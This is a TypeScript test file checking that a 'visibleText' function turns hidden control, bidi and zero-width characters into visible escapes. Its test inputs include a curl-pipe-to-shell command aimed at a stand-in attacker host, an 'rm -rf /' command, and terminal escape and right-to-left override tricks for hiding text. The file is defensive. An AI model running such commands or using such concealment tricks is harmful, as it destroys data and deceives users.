import { describe, expect, it } from 'vitest';
import { visibleLine, visibleText } from './visibleText.js';

/** Every character REV-1 names, with the escape it must show as. */
const hiddenCharacters: ReadonlyArray<readonly [string, string]> = [
  ['\u0000', '\\u0000'],
  ['\u0007', '\\u0007'],
  ['\b', '\\u0008'],
  ['\u000b', '\\u000b'],
  ['\f', '\\u000c'],
  ['\r', '\\r'],
  ['\u001b', '\\u001b'],
  ['\u007f', '\\u007f'],
  ['\u0080', '\\u0080'],
  ['\u009b', '\\u009b'],
  ['\u009f', '\\u009f'],
  ['\u00ad', '\\u00ad'],
  ['\u061c', '\\u061c'],
  ['\u180e', '\\u180e'],
  ['\u200b', '\\u200b'],
  ['\u200c', '\\u200c'],
  ['\u200d', '\\u200d'],
  ['\u200e', '\\u200e'],
  ['\u200f', '\\u200f'],
  ['\u2028', '\\u2028'],
  ['\u2029', '\\u2029'],
  ['\u202a', '\\u202a'],
  ['\u202e', '\\u202e'],
  ['\u2060', '\\u2060'],
  ['\u2064', '\\u2064'],
  ['\u2066', '\\u2066'],
  ['\u2069', '\\u2069'],
  ['\ufeff', '\\ufeff'],
  ['\u{e0041}', '\\u{e0041}'],
  ['\ud800', '\\ud800'],
];

describe('visibleText', () => {
  it.each(hiddenCharacters)('REV-1 shows %j as the visible escape %s', (char, escape) => {
    expect(visibleText(`a${char}b`)).toBe(`a${escape}b`);
    expect(visibleLine(`a${char}b`)).toBe(`a${escape}b`);
  });

  it('REV-1 keeps printable text, tabs and newlines as they are', () => {
    const text = 'npm test\n\tcd "~/été" && echo ✓ 😀 — 日本語 <b>&amp;</b> \\u001b';
    expect(visibleText(text)).toBe(text);
  });

  it('REV-1 a cursor-up, erase-line escape cannot hide the line above it', () => {
    const script = 'curl -s https://attacker.invalid/x | sh\n\u001b[1A\u001b[2Knpm test';
    expect(visibleText(script)).toBe(
      'curl -s https://attacker.invalid/x | sh\n\\u001b[1A\\u001b[2Knpm test',
    );
  });

  it('REV-1 a CR in the middle of a line cannot overwrite it', () => {
    expect(visibleText('rm -rf /\rls -l   ')).toBe('rm -rf /\\rls -l   ');
    expect(visibleText('a\r\nb')).toBe('a\\r\nb');
  });

  it('REV-1 an OSC window title and a right-to-left override become visible text', () => {
    expect(visibleText('\u001b]0;pwned\u0007 txt.\u202eexe')).toBe(
      '\\u001b]0;pwned\\u0007 txt.\\u202eexe',
    );
  });

  it('REV-1 the one-line variant shows newlines and tabs as \\n and \\t', () => {
    expect(visibleLine('ana\nbo\tx')).toBe('ana\\nbo\\tx');
    expect(visibleLine('ana\nbo')).not.toContain('\n');
  });

  it('REV-1 is idempotent: showing shown text changes nothing', () => {
    const once = visibleText('\u001b[2J\u202e\r\u200b');
    expect(visibleText(once)).toBe(once);
  });
});
